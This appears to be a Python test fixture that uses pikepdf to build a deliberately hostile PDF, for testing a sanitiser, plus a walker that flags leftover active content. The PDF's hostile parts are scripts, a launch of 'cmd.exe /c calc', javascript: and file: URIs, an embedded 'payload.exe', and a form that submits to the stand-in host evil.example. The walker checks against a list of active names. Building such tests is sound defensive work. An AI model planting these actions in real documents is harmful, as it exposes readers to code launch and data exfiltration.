"""PDFs as a hostile author makes them (scripts, launches, forms that submit, embedded files,
XFA), and a walk over every object of a PDF that finds any of it left."""

from __future__ import annotations

from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SAFE_LINKS = ("https://www.england.nhs.uk/", "mailto:board.secretary@nhs.net")
HOSTILE_URIS = ("javascript:app.alert('pwned')", "file:///C:/Windows/System32/cmd.exe", " JavaScript:void(0)")
PAGE_WORDS = "Appendix C: estates register"


def _action(kind: str, **entries) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **entries)


def _js(code: str = "app.alert('pwned')") -> Dictionary:
    return _action("JavaScript", JS=String(code))


def _link(pdf: pikepdf.Pdf, action: Dictionary, at: int) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([50, 700 - 30 * at, 300, 720 - 30 * at]),
                                        Border=Array([0, 0, 0]), A=action))


def hostile_appendix(path: Path, pages: int = 1) -> Path:
    """A PDF holding every kind of active content the pack removes, and links it keeps."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[number]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 18 Tf 50 780 Td ({PAGE_WORDS}, page {number + 1}) Tj ET".encode())
    page = pdf.pages[0]
    # Document level: a page-open script, document scripts, an embedded file, an XFA form.
    pdf.Root.OpenAction = _js("app.launchURL('https://evil.example/')")
    pdf.Root.AA = Dictionary(WC=_js())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())])))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", mime_type="application/octet-stream")
    # Page level: an open action, links of every kind, a widget with scripts and a submit, an attached file.
    page.obj.AA = Dictionary(O=_js(), C=_js())
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=Array([50, 100, 150, 130]),
        A=_action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))),
        AA=Dictionary(K=_js(), E=_action("ResetForm"), F=_action("ImportData", F=String("data.fdf")))))
    attached = pikepdf.AttachedFileSpec(pdf, b"secret", filename="notes.txt")
    file_annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([400, 100, 420, 120]),
                                                   FS=attached.obj, Name=Name.PushPin))
    links = [
        _action("JavaScript", JS=String("this.print()")),
        _action("Launch", F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
        *(_action("URI", URI=String(uri)) for uri in HOSTILE_URIS),
        _action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit])),
        _action("GoToE", T=Dictionary(R=Name.C, N=String("payload.exe"))),
        *(_action("URI", URI=String(uri)) for uri in SAFE_LINKS),
        # An allowed link with a script chained after it: the link stays, the script goes.
        _action("GoTo", D=Array([page.obj, Name.Fit]), Next=Array([_js(), _action("Named", N=Name.NextPage)])),
    ]
    page.Annots = Array([_link(pdf, action, at) for at, action in enumerate(links)] + [widget, file_annotation])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"), NeedsRendering=True)
    pdf.save(path)
    return path


def encrypted_pdf(path: Path) -> Path:
    """A one-page PDF that needs a password to open."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.save(path, encryption=pikepdf.Encryption(user="board", owner="secretary"))
    return path


ACTIVE_NAMES = {"/JS", "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/EmbeddedFiles", "/EF",
                "/XFA", "/GoToR", "/GoToE", "/FileAttachment", "/AA", "/OpenAction"}


def active_content(pdf: pikepdf.Pdf, ignoring: frozenset[str] = frozenset()) -> list[str]:
    """Every trace of active content in any object of `pdf`: keys or names of scripts, launches,
    form submissions, embedded files, XFA, links to other files, and URIs other than http(s)
    and mailto (an /OpenAction that is only a destination, an array, is allowed; so are the
    names in `ignoring`)."""
    found = []
    stack: list = list(pdf.objects) + [pdf.Root, pdf.trailer]
    seen = set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, Array):
            stack.extend(obj)
        elif isinstance(obj, (Dictionary, pikepdf.Stream)):
            for key in obj.keys():
                value = obj[key]
                if key in ACTIVE_NAMES - ignoring and not (key == "/OpenAction" and isinstance(value, Array)):
                    found.append(key)
                if key == "/URI" and isinstance(value, String) and not str(value).startswith(("http://", "https://", "mailto:")):
                    found.append(f"/URI {value}")
                stack.append(value)
        elif isinstance(obj, Name) and str(obj) in ACTIVE_NAMES:
            found.append(str(obj))
    return found
